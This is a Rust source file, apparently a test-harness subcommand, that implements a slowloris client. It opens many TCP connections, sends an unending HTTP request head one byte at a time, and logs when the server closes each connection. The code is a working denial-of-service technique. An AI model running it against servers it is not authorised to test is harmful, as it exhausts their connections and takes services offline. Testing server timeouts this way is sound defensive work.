//! `slowloris ADDR N INTERVAL_MS`: N connections that each send a request
//! head one byte every INTERVAL_MS and never finish it, until the server
//! closes them (or 60 s pass). Prints when the last one was closed.

use std::{
    io::{Read, Write},
    net::TcpStream,
    time::{Duration, Instant},
};

use anyhow::Result;
use serde_json::json;

const HEAD: &[u8] = b"GET / HTTP/1.1\r\nHost: slow\r\nX-Slow: ";
const GIVE_UP: Duration = Duration::from_secs(60);

pub(super) fn slowloris(addr: &str, n: usize, interval_ms: u64) -> Result<()> {
    let interval = Duration::from_millis(interval_ms);
    let started = Instant::now();
    let mut conns = Vec::with_capacity(n);
    for _ in 0..n {
        let s = TcpStream::connect(addr)?;
        s.set_nonblocking(true)?;
        conns.push(Some((s, 0usize)));
    }
    println!("{}", json!({"event": "connected", "count": n}));
    std::io::stdout().flush()?;
    let mut closed_ms = Vec::new();
    let mut answered = 0;
    while closed_ms.len() < n && started.elapsed() < GIVE_UP {
        for slot in conns.iter_mut() {
            let Some((s, sent)) = slot else { continue };
            // One more byte of a head that never ends.
            let byte = if *sent < HEAD.len() {
                HEAD[*sent]
            } else {
                b'a'
            };
            let wrote = s.write(&[byte]);
            let mut buf = [0u8; 512];
            let gone = match s.read(&mut buf) {
                Ok(0) => true,
                Ok(_) => {
                    answered += 1; // a 408, say: closed after it
                    true
                }
                Err(e) if e.kind() == std::io::ErrorKind::WouldBlock => wrote.is_err(),
                Err(_) => true,
            };
            if gone {
                closed_ms.push(started.elapsed().as_millis() as u64);
                *slot = None;
            } else {
                *sent += 1;
            }
        }
        std::thread::sleep(interval);
    }
    println!(
        "{}",
        json!({"event": "done", "closed": closed_ms.len(), "answered": answered,
               "last_closed_ms": closed_ms.iter().max(), "open": n - closed_ms.len()})
    );
    Ok(())
}
